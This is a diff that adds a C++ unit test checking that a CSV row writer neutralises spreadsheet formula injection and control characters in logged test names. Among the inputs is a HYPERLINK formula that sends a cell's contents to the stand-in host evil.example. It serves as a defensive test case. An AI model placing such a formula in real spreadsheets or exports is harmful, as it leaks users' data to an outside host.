@@ -46,5 +46,42 @@ TEST(CsvRowTest, WritesOneLineOfFactsPerTest) {
   }
 }
 
+struct NameCase {
+  std::string name;  // as logged
+  std::string_view field;
+};
+
+TEST(CsvRowTest, WritesNamesThatAFormulaCouldStartWithAQuoteFirst) {
+  const NameCase cases[] = {
+      {.name = "=1+1", .field = "'=1+1"},
+      {.name = "+1+1", .field = "'+1+1"},
+      {.name = "-1+1", .field = "'-1+1"},
+      {.name = "@SUM(1,1)", .field = "\"'@SUM(1,1)\""},
+      {.name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+       .field = "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""},
+      {.name = "\tTab", .field = "'?Tab"},
+      {.name = "\r=1", .field = "'?=1"},
+      {.name = "-", .field = "'-"},
+      {.name = "Ann-Marie", .field = "Ann-Marie"},
+      {.name = "'=1", .field = "'=1"},  // a quote first already
+      {.name = " =1", .field = " =1"},
+      {.name = "\x1b[31m=1", .field = "?[31m=1"},
+      {.name = "\xc2\x9b", .field = "?"},
+      {.name = "\xe2\x80\xaeZed", .field = "?Zed"},
+      {.name = "Bad\xff", .field = "Bad\uFFFD"},
+      {.name = "Zoë", .field = "Zoë"},
+  };
+  std::optional<records::LoggedTest> test =
+      testing_support::read_test(Block{.limit = "-5", .rating = "-2"});
+  ASSERT_TRUE(test);
+  for (const NameCase& c : cases) {
+    test->name = c.name;
+    std::string out;
+    append_csv_row(*test, out);
+    EXPECT_EQ(out, "2026-12-08T10:00:00,2026-12-08T10:04:00," + std::string(c.field) +
+                       ",-5,18,20,90,A,240,-2\r\n");
+  }
+}
+
 }  // namespace
 }  // namespace progress
